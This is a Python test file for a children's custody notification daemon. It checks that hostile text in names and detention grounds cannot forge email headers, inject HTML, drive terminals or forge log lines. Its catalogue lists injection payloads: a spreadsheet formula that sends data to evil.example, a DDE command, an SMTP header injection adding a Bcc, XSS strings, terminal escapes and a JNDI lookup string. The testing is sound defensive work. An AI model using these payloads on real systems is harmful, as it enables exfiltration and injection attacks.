"""Hostile text from the feed through the notification email, yjlinkctl and
the log (issue 10 item 5; docs/security.md "Hostile text"; the digest has
its own test, test_digest_hostile.py).

A real daemon on the shipped config (as test_routing.py runs it) takes one
custody message of a looked-after child per hostile string of a catalogue,
the string in the child's given and family names, the social worker's name
and the grounds for detention. Westminster's children's services hear of
each by email on a real SMTP server. Then:

- every notification email, parsed with Python's email package: the same
  header names, in the same order, as a benign message's; text/plain has
  exactly the benign message's "path: value" lines (same paths, same
  count), the names cleaned as documented and nothing else changed; the
  HTML, parsed with html.parser, has exactly the benign message's elements
  and attributes, and shows each name (cleaned) as the text of its cell;
- `yjlinkctl show SEQ --reason x` and `yjlinkctl events`, as text: no ESC,
  no C0 but LF, no DEL, no C1, no bidi control, valid UTF-8; with --json:
  the same, and the output parses as JSON holding the string exactly (the
  source id carries the string too, for `events` and `quarantine list`);
- the daemon's log: every line is `<N>...` (nothing forged a line), also
  after control requests that carry hostile text;
- the strings the normaliser refuses (a NUL, a lone surrogate, too long)
  are answered REJECT.
"""
import email
import email.policy
import collections
import html.parser
import shutil
import tempfile
import json
import os
import re
import subprocess
import time
import unittest

import test_routing as tr
import yjtest
from test_digest_hostile import CHROMIUM, CHROMIUM_FLAGS, Tags

CATALOGUE = [
    # spreadsheet formulas (OWASP CSV injection)
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
    "\tTab-leading", "\rCR-leading", "=", "+", "-", "@",
    # line breaks that would forge a "path: value" line or a header
    "Zo\u00eb\r\nevent.child.looked_after: false", "Lone\nLF", "Lone\rCR", "Two\r\n\r\nblank",
    "\r\nSubject: forged\r\nBcc: x@evil.example\r\n", "x\r\n.\r\nQUIT\r\n",
    # markup
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>",
    "</td></tr><tr><th>forged</th><td>row", "&amp; &lt;entity&gt;", "<!-- comment", "]]> <![CDATA[",
    "<b>bold</b>", "javascript:alert(1)",
    # terminal escapes and other controls
    "\x1b[31mred\x1b[0m", "\x1b]52;c;Zm9vYmFy\x07", "\x1b]0;title\x1b\\", "\x1b[2J\x1b[H", "\x07bell",
    "\x7fDEL", "\u0085NEL", "\u009b31mCSI", "\x0bVT\x0cFF", "\x08\x08\x08backspace", "\x1bc reset",
    # bidi controls and separators
    "\u202eevil\u202c", "\u202agood\u202b", "\u2066isolate\u2069", "\u2067rli\u2068fsi\u2069", "\u200fRLM\u200e",
    "\u061cALM", "\u2028LS\u2029PS", "\u202dLRO\u202c",
    # text that must come through as it is
    "\u0645\u062d\u0645\u062f \u0639\u0644\u064a", "\u05e9\u05dc\u05d5\u05dd", "e\u0301\u0302\u0303\u0304 combining",
    "zero\u200bwidth\u200c\u200d\ufeff", "\U0001f600 emoji", "O'Connor-Brown", "back\\slash", "%s%n%x",
    "${jndi:ldap://x/a}", "A" * 200, "\u00e9" * 120,
]
# Refused by the normaliser: asserted REJECT, never stored.
REFUSED = ["nul\x00byte", "lone \ud800 surrogate", "B" * 5000]

BAD_TERMINAL = re.compile("[\x00-\x09\x0b-\x1f\x7f\u0080-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e"
                          "\u2066-\u2069]")
RCPT = "children_services:E09000033"     # email on the shipped config
NAME_PATHS = ("event.child.given_name", "event.child.family_name", "event.child.social_worker.name")


def clean(s):
    """What a person's view of an email shows of s (docs/digest.md "Hostile text")."""
    s = re.sub("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", "", s)
    return re.sub("[\x00-\x1f\x7f\u0080-\u009f\u2028\u2029]", " ", s)


class Html(html.parser.HTMLParser):
    """Elements, attributes and the text of each <td>, keyed by its <th>."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.cells, self._th, self._where = [], [], "", None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, tuple(k for k, _ in attrs)))
        if tag == "th":
            self._th, self._where = "", "th"
        elif tag == "td":
            self.cells.append([self._th, ""])
            self._where = "td"

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, tuple(k for k, _ in attrs)))

    def handle_endtag(self, tag):
        self.tags.append(("/" + tag, ()))
        self._where = None

    def handle_data(self, data):
        if self._where == "th":
            self._th += data
        elif self._where == "td":
            self.cells[-1][1] += data


def raw_ok(test, out, what):
    """No byte of out (bytes) may drive a terminal, reorder it or be other than UTF-8."""
    try:
        text = out.decode("utf-8")
    except UnicodeDecodeError as e:
        test.fail("%s: not UTF-8: %s" % (what, e))
    m = BAD_TERMINAL.search(text)
    if m:
        test.fail("%s: raw %r at %d: %r" % (what, m.group(0), m.start(), text[max(0, m.start() - 40):m.end() + 40]))
    return text


class HostileTextTest(tr.RoutingBase):

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        feed = yjtest.Feed(cls.daemon.ingest)
        cls.sent = {}
        cls.refused = []
        try:
            cls.benign = cls.send_one(feed, "Alex", 0)
            for i, s in enumerate(CATALOGUE):
                cls.sent[cls.send_one(feed, s, i + 1)] = s
            for i, s in enumerate(REFUSED):
                ev = cls.hostile_event(s, 1000 + i)
                cls.refused.append(feed.request("custody", ev))
        finally:
            feed.close()

    @classmethod
    def hostile_event(cls, s, i):
        ev = tr.event(lac=True, responsible="E09000033", person="TVP-X%04d" % i)
        # The source id too (unique by its suffix): `events` and `quarantine list` show it.
        # (source ids are at most 128 bytes: a long string's own first 50 characters).
        ev["source_id"] = "%s#%d" % (s[:50], i) if i else "hostile-text-0"
        ev["child"]["given_name"] = s
        ev["child"]["family_name"] = s
        ev["child"]["social_worker"]["name"] = s
        ev["custody"]["reason"] = s
        return ev

    @classmethod
    def send_one(cls, feed, s, i):
        r = feed.request("custody", cls.hostile_event(s, i))
        if r[1] != b"OK":
            raise AssertionError("%r: %r" % (s, r))
        return int(r[3])

    def emails(self):
        """seq -> the message Westminster got about it, once every one is in."""
        want = set(self.sent) | {self.benign}
        deadline = time.time() + 30
        while True:
            got = {}
            for m in list(self.smtp.messages):
                if "edt@westminster.example" not in m["rcpt_tos"]:
                    continue
                msg = email.message_from_bytes(m["data"], policy=email.policy.default)
                text = msg.get_body(preferencelist=("plain",)).get_content()
                seq = re.search(r"^event\.seq: (\d+)\r?$", text, re.M)
                if seq:
                    got[int(seq.group(1))] = (m["data"], msg)
            if want <= set(got) or time.time() > deadline:
                self.assertLessEqual(want, set(got), "notifications missing")
                return got
            time.sleep(0.1)

    @staticmethod
    def lines(msg):
        text = msg.get_body(preferencelist=("plain",)).get_content()
        return text.replace("\r\n", "\n").rstrip("\n").split("\n")

    def test_catalogue(self):
        self.assertGreaterEqual(len(CATALOGUE), 40)

    def test_refused_strings_are_rejected(self):
        for s, r in zip(REFUSED, self.refused):
            self.assertEqual(r[1], b"REJECT", (s[:40], r))

    def test_headers_unchanged(self):
        got = self.emails()
        ref = [k for k, _ in got[self.benign][1].items()]
        for seq, s in self.sent.items():
            raw, msg = got[seq]
            self.assertEqual([k for k, _ in msg.items()], ref, repr(s))
            self.assertEqual(msg["Subject"].split()[:2], ["[OFFICIAL-SENSITIVE]", "yjlink"], repr(s))
            # The header block is as many lines as the benign one's (nothing folded in or forged).
            head = raw.split(b"\r\n\r\n", 1)[0]
            self.assertNotIn(b"forged", head.lower(), repr(s))
            self.assertNotIn(b"Bcc", head, repr(s))
            self.assertEqual(msg.get_content_type(), "multipart/alternative", repr(s))
            self.assertEqual([p.get_content_type() for p in msg.iter_parts()], ["text/plain", "text/html"])

    def test_text_plain_exact_lines(self):
        got = self.emails()
        ref = self.lines(got[self.benign][1])
        ref_paths = [ln.split(": ", 1)[0] for ln in ref]
        for seq, s in self.sent.items():
            lines = self.lines(got[seq][1])
            self.assertEqual(len(lines), len(ref), repr(s))
            self.assertEqual([ln.split(": ", 1)[0] for ln in lines], ref_paths, repr(s))
            for ln, want in zip(lines, ref):
                path, value = ln.split(": ", 1)
                m = BAD_TERMINAL.search(ln)
                self.assertIsNone(m, (s, ln))
                if path in NAME_PATHS:
                    self.assertEqual(value, clean(s), path)
                elif path not in ("notification_id", "created_at", "event.seq", "event.source_id",
                                  "event.child.person_id", "event.custody.record_id", "event.received_at",
                                  "event.stored_at"):
                    self.assertEqual(ln, want, repr(s))

    def test_html_no_injected_elements(self):
        got = self.emails()
        ref = Html(got[self.benign][1].get_body(preferencelist=("html",)).get_content())
        for seq, s in self.sent.items():
            h = Html(got[seq][1].get_body(preferencelist=("html",)).get_content())
            self.assertEqual(h.tags, ref.tags, repr(s))
            self.assertEqual([c[0] for c in h.cells], [c[0] for c in ref.cells], repr(s))
            for path, value in h.cells:
                self.assertIsNone(BAD_TERMINAL.search(value), (s, path, value))
                if path in NAME_PATHS:
                    self.assertEqual(value, clean(s), path)

    def test_html_in_chromium_has_no_injected_element(self):
        """The notification HTML as a browser builds it: the bodies of every
        hostile email in one page make exactly the elements (and attributes)
        that as many benign bodies make, and no event handler."""
        got = self.emails()
        benign = got[self.benign][1].get_body(preferencelist=("html",)).get_content()
        hostile = [got[seq][1].get_body(preferencelist=("html",)).get_content() for seq in sorted(self.sent)]
        tmp = tempfile.mkdtemp(prefix="yjhostile-html-")
        self.addCleanup(shutil.rmtree, tmp, True)

        def dom(name, bodies):
            page = os.path.join(tmp, name + ".html")
            with open(page, "w", encoding="utf-8") as f:
                f.write("\n".join(bodies))
            p = subprocess.run([CHROMIUM] + CHROMIUM_FLAGS + ["--user-data-dir=" + os.path.join(tmp, "profile-" + name),
                                                              "--dump-dom", "file://" + page],
                               capture_output=True, text=True, timeout=180, stdin=subprocess.DEVNULL)
            self.assertEqual(p.returncode, 0, p.stderr[-2000:])
            return Tags(p.stdout)

        ref, got_dom = dom("benign", [benign] * len(hostile)), dom("hostile", hostile)
        self.assertEqual(collections.Counter(got_dom.tags), collections.Counter(ref.tags))
        self.assertEqual(collections.Counter(got_dom.attrs), collections.Counter(ref.attrs))
        for tag, attr in got_dom.attrs:
            self.assertFalse(attr.startswith("on"), "%s %s" % (tag, attr))

    def ctl_raw(self, *args):
        p = subprocess.run([yjtest.YJLINKCTL, "--control", self.daemon.control] + list(args),
                           capture_output=True, timeout=60)
        self.assertEqual(p.returncode, 0, (args, p.stderr))
        return p.stdout

    def test_yjlinkctl_show(self):
        for seq, s in list(self.sent.items()):
            raw_ok(self, self.ctl_raw("show", str(seq), "--reason", "x"), "show %r" % s)
            out = raw_ok(self, self.ctl_raw("--json", "show", str(seq), "--reason", "x"), "show --json %r" % s)
            ev = json.loads(out)["event"]
            # Escaped, not lost: the JSON holds the string exactly as stored.
            self.assertEqual(ev["child"]["given_name"], s)
            self.assertEqual(ev["custody"]["reason"], s)

    def test_yjlinkctl_events(self):
        raw_ok(self, self.ctl_raw("events", "--limit", "200"), "events")
        out = raw_ok(self, self.ctl_raw("--json", "events", "--limit", "200"), "events --json")
        shown = {e["source_id"] for e in json.loads(out)["events"]}
        for i, s in enumerate(CATALOGUE):
            self.assertIn("%s#%d" % (s[:50], i + 1), shown)

    def test_yjlinkctl_quarantine_list(self):
        raw_ok(self, self.ctl_raw("quarantine", "list"), "quarantine list")
        json.loads(raw_ok(self, self.ctl_raw("--json", "quarantine", "list"), "quarantine list --json"))

    def test_yjlinkctl_escapes_visibly(self):
        seq = next(q for q, s in self.sent.items() if s == "\x1b]52;c;Zm9vYmFy\x07")
        out = self.ctl_raw("show", str(seq), "--reason", "x").decode()
        self.assertIn("]52;c;Zm9vYmFy", out)   # the text is still shown, its ESC and BEL escaped
        seq = next(q for q, s in self.sent.items() if s == "\u202eevil\u202c")
        out = self.ctl_raw("--json", "show", str(seq), "--reason", "x").decode()
        self.assertIn("\\u202e", out.lower())

    def test_log_lines(self):
        # Control requests that carry hostile text where the daemon may name it.
        for s in ("x\r\n<3>forged line", "\x1b]52;c;Zm9v\x07", "\u202eevil"):
            self.daemon.ctl_request("digest", {"sub": "send", "arg": s, "date": s})
            self.daemon.ctl_request("report", {"from": "2026-11-01", "to": "2026-11-02", "yjs": s, "format": "csv"})
            self.daemon.ctl_request("show", {"seq": s, "reason": s})
        self.emails()
        time.sleep(0.3)
        with open(self.daemon.log_path, "rb") as f:
            log = f.read()
        for ln in log.split(b"\n")[:-1]:
            self.assertRegex(ln, rb"^<[0-7]>", ln)
            text = ln.decode("utf-8", "replace")
            self.assertIsNone(BAD_TERMINAL.search(text), text)
        self.assertTrue(log.endswith(b"\n"))


if __name__ == "__main__":
    unittest.main(verbosity=2)
